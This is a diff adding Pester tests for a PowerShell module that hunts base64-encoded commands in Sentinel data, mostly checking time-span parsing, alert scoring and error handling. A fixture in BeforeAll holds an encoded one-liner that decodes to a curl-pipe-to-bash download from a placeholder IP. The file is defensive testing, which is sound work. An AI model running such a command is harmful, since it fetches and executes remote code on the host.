@@ -1,0 +1,78 @@
+# Issue 19: what a Sentinel hunter who lives in pwsh expects at the prompt and in runbooks.
+BeforeAll {
+    Import-Module $env:B64HUNT_MODULE -Force
+    $script:Work = Join-Path ([System.IO.Path]::GetTempPath()) ("b64prompt-" + [guid]::NewGuid())
+    New-Item -ItemType Directory -Path $Work | Out-Null
+    $script:Payload = 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash'
+}
+AfterAll { Remove-Item -Recurse -Force $Work -ErrorAction SilentlyContinue }
+
+Describe 'KQL-style spans' {
+    It 'reads 7d, 12h, 30m and 45s as days, hours, minutes and seconds' {
+        $cmd = Get-Command Measure-B64Score
+        $attr = $cmd.Parameters['AlertWindow'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
+        $attr | Should -Not -BeNullOrEmpty
+        foreach ($case in @(@('7d', [timespan]::FromDays(7)), @('12h', [timespan]::FromHours(12)), @('30m', [timespan]::FromMinutes(30)), @('45s', [timespan]::FromSeconds(45)), @('1.00:00:00', [timespan]::FromDays(1)))) {
+            $attr.Transform($ExecutionContext, $case[0]) | Should -Be $case[1]
+        }
+    }
+
+    It 'scores with -AlertWindow 30m as with a 30-minute TimeSpan' {
+        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
+        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
+        $far = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'far'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T11:00:00Z' }
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 30m).AlertScore | Should -Be 3
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow ([timespan]::FromMinutes(30))).AlertScore | Should -Be 3
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 2h).AlertScore | Should -Be 6
+    }
+
+    It 'refuses a bare number (ticks) and a span under a second, naming the fix' {
+        { 'id' | Measure-B64Score -AlertWindow 1 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*7d, 12h*'
+        { 'id' | Measure-B64Score -AlertWindow ([timespan]::FromMilliseconds(5)) -ErrorAction Stop } | Should -Throw -ExpectedMessage '*under a second*'
+        { Get-B64RelatedAlert -Sample -Last 7 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*'
+        { Get-B64RelatedAlert -Sample -Last '7x' -ErrorAction Stop } | Should -Throw -ExpectedMessage "*Cannot read '7x'*"
+    }
+
+    It 'reads unquoted 7d and 30s (PowerShell number literals: decimal 7, short 30) as days and seconds' {
+        $attr = (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
+        $attr.Transform($ExecutionContext, 7d) | Should -Be ([timespan]::FromDays(7))
+        $attr.Transform($ExecutionContext, 30s) | Should -Be ([timespan]::FromSeconds(30))
+        { $attr.Transform($ExecutionContext, 7) } | Should -Throw -ExpectedMessage '*no unit*'
+        { $attr.Transform($ExecutionContext, 7l) } | Should -Throw -ExpectedMessage '*no unit*'
+    }
+
+    It 'accepts zero, which Measure-B64Score reads as the same instant' {
+        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
+        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
+        ($e | Measure-B64Score -Alert $near -AlertWindow 0 -ErrorAction Stop).AlertScore | Should -Be 0
+    }
+
+    It 'takes -Last 7d on Get-B64RelatedAlert and -CacheTtl 6h on Invoke-B64TiLookup' {
+        (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        (Get-Command Get-B64Command).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        (Get-Command Invoke-B64TiLookup).Parameters['CacheTtl'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        @(Get-B64Command -Sample | Get-B64RelatedAlert -Sample -Last 3650d).Count | Should -BeGreaterThan 0
+    }
+}
+
+Describe 'A malformed record does not stop a runbook' {
+    It 'under $ErrorActionPreference = Stop reads the whole sample and warns with the id and file:line' {
+        $ErrorActionPreference = 'Stop'
+        $events = Get-B64Command -Sample -WarningVariable warned -WarningAction SilentlyContinue
+        $ErrorActionPreference = 'Continue'
+        $all = Get-B64Command -Sample -ErrorAction SilentlyContinue -ErrorVariable errs
+        $events.Count | Should -Be $all.Count
+        $errs.FullyQualifiedErrorId | Should -Contain 'MalformedAuomsRecord,B64Hunt.Commands.GetB64CommandCommand'
+        $warned | Where-Object { "$_" -match '^MalformedAuomsRecord: .*auoms-syslog\.log:\d+' } | Should -Not -BeNullOrEmpty
+    }
+
+    It 'stays an error the user opts into with -ErrorAction Stop on the call' {
+        $ErrorActionPreference = 'Stop'
+        { Get-B64Command -Sample -ErrorAction Stop } | Should -Throw -ErrorId 'MalformedAuomsRecord*'
+    }
+
+    It 'keeps errors that lose data (a missing file) as errors under Stop' {
+        $ErrorActionPreference = 'Stop'
+        { Get-B64Command -Path (Join-Path $Work 'missing.log') } | Should -Throw -ErrorId 'PathNotFound*'
+    }
+}
